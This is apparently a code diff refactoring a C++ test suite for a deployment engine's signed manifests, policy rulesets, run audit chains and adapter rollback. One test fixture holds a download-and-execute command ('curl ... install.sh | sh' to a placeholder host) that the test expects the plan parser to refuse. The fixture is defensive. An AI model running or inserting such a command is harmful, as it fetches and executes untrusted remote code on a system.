@@ -48,7 +48,6 @@ using vorelcore_policy::decision::Decision;
 using vorelcore_policy::decision::PolicyDecision;
 using vorelcore_policy::eval::PolicyRule;
 using vorelcore_policy::eval::PolicyRuleset;
-using vorelcore_policy::eval::SignedPolicyRuleset;
 using vorelcore_policy::eval::VerifiedRuleset;
 using vorelcore_policy::input::PolicyInput;
 using voreldeploy_adapters::AdapterRequest;
@@ -124,23 +123,26 @@ namespace {
 
 CheckResult holds_when(bool held) { return Finding{held, std::nullopt}; }
 
+// The display text of any operation's error.
+const std::string& error_text(const std::string& error) { return error; }
+template <class E>
+std::string error_text(const E& error) {
+    return error.message();
+}
+
 // A refusal check: it holds when the operation refused, and the refusal's
 // own words are reported.
 template <class T, class E>
 CheckResult refused(const std::expected<T, E>& result) {
     if (result) return holds_when(false);
-    if constexpr (std::is_same_v<E, std::string>) {
-        return Finding{true, result.error()};
-    } else {
-        return Finding{true, result.error().message()};
-    }
+    return Finding{true, error_text(result.error())};
 }
 
 // A check whose operation either succeeds or ends the scenario with its own
 // error.
 template <class E>
 CheckResult succeeds(const std::expected<void, E>& result) {
-    if (!result) return std::unexpected(result.error().message());
+    if (!result) return std::unexpected(error_text(result.error()));
     return holds_when(true);
 }
 
@@ -168,12 +170,20 @@ ReleaseManifest release_manifest(const TenantId& tenant, const WorkspaceId& work
     return manifest;
 }
 
-std::expected<SignedManifest, std::string> signed_manifest(ReleaseManifest manifest, const SigningKey& key,
-                                                           const Timestamp& now) {
-    auto envelope = SignedManifest::sign(std::move(manifest), KeyId::generate(), now, key,
-                                         voreldeploy_engine::manifest::manifest_envelope_context());
+// Signed under `context` with a fresh key id, as the signing commands do.
+template <class T>
+std::expected<vorelcore_crypto::envelope::SignedEnvelope<T>, std::string> signed_with(T payload, const SigningKey& key,
+                                                                                    const Timestamp& now,
+                                                                                    std::vector<std::string> context) {
+    auto envelope = vorelcore_crypto::envelope::SignedEnvelope<T>::sign(std::move(payload), KeyId::generate(), now,
+                                                                        key, std::move(context));
     if (!envelope) return std::unexpected(envelope.error().message());
     return std::move(*envelope);
+}
+
+std::expected<SignedManifest, std::string> signed_manifest(ReleaseManifest manifest, const SigningKey& key,
+                                                           const Timestamp& now) {
+    return signed_with(std::move(manifest), key, now, voreldeploy_engine::manifest::manifest_envelope_context());
 }
 
 ReleaseArtifact artifact_of(std::string_view declared_bytes, const Timestamp& now) {
@@ -261,12 +271,6 @@ std::expected<void, std::string> record(const RecordStepOutcome& record_step_out
     return {};
 }
 
-std::expected<void, std::string> verify_integrity(const DeploymentRun& run, const SigningKey& key) {
-    auto intact = voreldeploy_engine::run::verify_run_integrity(run, key.verifying_key());
-    if (!intact) return std::unexpected(intact.error().message());
-    return {};
-}
-
 bool is_allow(const PolicyDecision& decision) { return decision.decision == Decision::Allow; }
 
 using Checks = std::expected<std::vector<Check>, std::string>;
@@ -299,7 +303,10 @@ Checks happy_path(const RecordStepOutcome& record_step_outcome) {
 
     return std::vector<Check>{
         {"signed manifest verifies",
-         [s] { return succeeds(voreldeploy_engine::manifest::verify_manifest(s->envelope, s->key.verifying_key(), s->now)); }},
+         [s] {
+             return succeeds(
+                 voreldeploy_engine::manifest::verify_manifest(s->envelope, s->key.verifying_key(), s->now));
+         }},
         {"plan steps are valid",
          [s] {
              s->steps = {ValidateTarget{}, ApplyArtifact{s->envelope.payload.artifacts.front()}, HealthCheck{30}};
@@ -339,9 +346,10 @@ Checks happy_path(const RecordStepOutcome& record_step_outcome) {
              // No adapter here: the outcomes are the ones a healthy target
              // would report.
              for (const DeploymentStepKind& step : s->plan.steps) {
-                 StepOutcome outcome = std::holds_alternative<HealthCheck>(step) ? StepOutcome{contract_run::Verified{}}
-                                                                                  : StepOutcome{contract_run::Applied{}};
-                 if (auto recorded = record(record_step_outcome, s->run, s->plan.steps, std::move(outcome), *s->run_key);
+                 StepOutcome outcome = contract_run::Applied{};
+                 if (std::holds_alternative<HealthCheck>(step)) outcome = contract_run::Verified{};
+                 if (auto recorded =
+                         record(record_step_outcome, s->run, s->plan.steps, std::move(outcome), *s->run_key);
                      !recorded) {
                      return std::unexpected(std::move(recorded.error()));
                  }
@@ -349,10 +357,7 @@ Checks happy_path(const RecordStepOutcome& record_step_outcome) {
              return holds_when(s->run.status == RunStatus::Succeeded);
          }},
         {"signed transition chain integrity verifies",
-         [s]() -> CheckResult {
-             if (auto intact = verify_integrity(s->run, *s->run_key); !intact) return std::unexpected(intact.error());
-             return holds_when(true);
-         }},
+         [s] { return succeeds(voreldeploy_engine::run::verify_run_integrity(s->run, s->run_key->verifying_key())); }},
     };
 }
 
@@ -430,7 +435,8 @@ Checks shell_step() {
              // A download-and-execute step, exactly what a typed plan exists
              // to make impossible.
              constexpr std::string_view step =
-                 R"({"kind": "shell_command", "command": "curl -fsSL https://payload.example.invalid/install.sh | sh"})";
+                 R"({"kind": "shell_command", )"
+                 R"("command": "curl -fsSL https://payload.example.invalid/install.sh | sh"})";
              return refused(vorelcore_json::from_text<DeploymentStepKind>(step));
          }},
     };
@@ -463,19 +469,11 @@ std::expected<VerifiedRuleset, std::string> through_file_source(const Provenance
     return std::move(resolved->ruleset);
 }
 
-std::expected<SignedPolicyRuleset, std::string> sign_ruleset(PolicyRuleset ruleset, const SigningKey& key,
-                                                             const Timestamp& now) {
-    auto envelope = SignedPolicyRuleset::sign(std::move(ruleset), KeyId::generate(), now, key,
-                                              vorelcore_policy::eval::ruleset_envelope_context());
-    if (!envelope) return std::unexpected(envelope.error().message());
-    return std::move(*envelope);
-}
-
 // The file source's answer for a ruleset signed with `key`; a signing
 // failure ends the scenario.
 std::expected<std::expected<VerifiedRuleset, std::string>, std::string> signed_through_file_source(
     const Provenance& s, const std::string& name, PolicyRuleset ruleset, const SigningKey& key) {
-    auto envelope = sign_ruleset(std::move(ruleset), key, s.now);
+    auto envelope = signed_with(std::move(ruleset), key, s.now, vorelcore_policy::eval::ruleset_envelope_context());
     if (!envelope) return std::unexpected(std::move(envelope.error()));
     return through_file_source(s, name, *envelope);
 }
@@ -604,12 +602,7 @@ Checks adapter_lifecycle(const fs::path& scratch) {
              return outcome_is<contract_run::Failed>([&] { return s->adapter.verify(s->request(s->b)); });
          }},
         {"rollback restores the previous known-good (artifact A)",
-         [s]() -> CheckResult {
-             if (auto rolled = s->adapter.rollback(s->target); !rolled) {
-                 return std::unexpected(rolled.error().message());
-             }
-             return holds_when(true);
-         }},
+         [s] { return succeeds(s->adapter.rollback(s->target)); }},
         {"after rollback, artifact A is active again and verifies intact",
          [s] { return outcome_is<contract_run::Verified>([&] { return s->adapter.verify(s->request(s->a)); }); }},
     };
@@ -675,10 +668,7 @@ Checks digest_mismatch_run(const fs::path& scratch, const RecordStepOutcome& rec
              return holds_when(s->run.status == RunStatus::Failed);
          }},
         {"the run's audit chain still verifies even though the run failed",
-         [s]() -> CheckResult {
-             if (auto intact = verify_integrity(s->run, s->key); !intact) return std::unexpected(intact.error());
-             return holds_when(true);
-         }},
+         [s] { return succeeds(voreldeploy_engine::run::verify_run_integrity(s->run, s->key.verifying_key())); }},
     };
 }
 
